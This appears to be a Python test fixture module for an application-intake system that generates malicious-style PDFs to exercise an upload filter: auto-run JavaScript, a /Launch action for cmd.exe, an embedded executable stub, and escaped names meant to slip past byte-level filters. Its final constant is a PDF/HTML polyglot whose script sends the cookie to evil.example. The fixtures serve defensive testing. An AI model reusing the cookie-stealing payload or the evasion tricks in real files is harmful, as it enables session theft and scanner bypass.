# This file is part of OSSIS.  The COPYRIGHT file at the top level of
# this repository contains the full copyright notices and license terms.
"""Files as applicants send them, and as attackers do, for the tests"""
import io

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject, DictionaryObject, NameObject, TextStringObject)


def _write(writer):
    data = io.BytesIO()
    writer.write(data)
    return data.getvalue()


def pdf(title="A scanned document"):
    "Return a small PDF of one blank page, as a scanner makes"
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_metadata({'/Title': title})
    return _write(writer)


def _action(kind, **values):
    action = DictionaryObject({NameObject('/S'): NameObject(kind)})
    for key, value in values.items():
        action[NameObject(f'/{key}')] = TextStringObject(value)
    return action


def pdf_open_javascript():
    "Return a PDF that runs JavaScript when it is opened"
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer._root_object[NameObject('/OpenAction')] = _action(
        '/JavaScript', JS="app.alert('hello')")
    return _write(writer)


def pdf_named_javascript():
    "Return a PDF with a document-level script (the /Names tree)"
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    scripts = ArrayObject([
            TextStringObject('greeting'),
            _action('/JavaScript', JS="app.alert('hello')")])
    writer._root_object[NameObject('/Names')] = DictionaryObject({
            NameObject('/JavaScript'): DictionaryObject({
                    NameObject('/Names'): scripts}),
            })
    return _write(writer)


def pdf_page_action():
    "Return a PDF whose page launches a program when it is shown (/AA)"
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    page[NameObject('/AA')] = DictionaryObject({
            NameObject('/O'): _action('/Launch', F='cmd.exe'),
            })
    return _write(writer)


def pdf_embedded_file():
    "Return a PDF that carries a program as an embedded file"
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_attachment('setup.exe', b'MZ\x90\x00' + b'\x00' * 60)
    return _write(writer)


def pdf_xfa():
    "Return a PDF with an XFA form"
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer._root_object[NameObject('/AcroForm')] = DictionaryObject({
            NameObject('/Fields'): ArrayObject(),
            NameObject('/XFA'): TextStringObject('<xdp:xdp/>'),
            })
    return _write(writer)


def pdf_hidden_javascript():
    """Return a PDF whose opening script is written with escaped names
    (/J#61vaScript), as filters that read bytes miss it"""
    return pdf_open_javascript().replace(
        b'/JavaScript', b'/J#61vaScript').replace(b'/JS ', b'/J#53 ')


# A file that starts as a PDF and goes on as a web page
PDF_HTML = (b'%PDF-1.4\n<html><body><script>document.location='
    b'"https://evil.example/?c="+document.cookie</script></body></html>\n')
